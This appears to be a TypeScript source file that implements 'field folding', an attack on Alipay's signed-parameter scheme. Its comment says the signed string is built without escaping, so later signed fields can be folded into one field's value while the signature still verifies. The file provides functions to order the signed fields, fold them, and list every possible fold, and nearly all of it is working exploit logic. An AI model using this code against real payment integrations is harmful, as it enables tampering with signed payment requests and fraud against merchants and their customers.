// Field folding, the attack on Alipay's unescaped signed string: move the `count` signed fields
// that follow `field` in sorted order into its value (`X=a&Y=b&Z=c` → `X=a%26Y%3Db%26Z%3Dc`).
// The signed bytes do not change, so the signature still verifies.
/** The fields Alipay signs, in signed (sorted) order: all but `sign`, `sign_type` unless kept, and empty ones unless kept. */
export function signedOrder(
  fields: Readonly<Record<string, string>>,
  keepSignType = false,
  keepEmpty = false,
): string[] {
  return Object.keys(fields)
    .filter((n) => n !== 'sign' && (keepSignType || n !== 'sign_type') && (keepEmpty || fields[n] !== ''))
    .sort();
}

/** `fields` with the `count` signed fields after `field` folded into its value. */
export function fold(
  fields: Readonly<Record<string, string>>,
  order: readonly string[],
  field: string,
  count: number,
): Record<string, string> {
  const at = order.indexOf(field);
  if (at < 0 || at + count >= order.length || count < 1) throw new Error(`cannot fold ${count} fields into ${field}`);
  const out: Record<string, string> = { ...fields };
  let value = fields[field]!;
  for (const name of order.slice(at + 1, at + 1 + count)) {
    value += `&${name}=${fields[name]}`;
    delete out[name];
  }
  out[field] = value;
  return out;
}

/** Every fold of `order`: each field swallowing 1, 2, … of the fields after it. */
export function everyFold(order: readonly string[]): [field: string, count: number][] {
  return order.flatMap((field, i) =>
    Array.from({ length: order.length - 1 - i }, (_, k) => [field, k + 1] as [string, number]),
  );
}
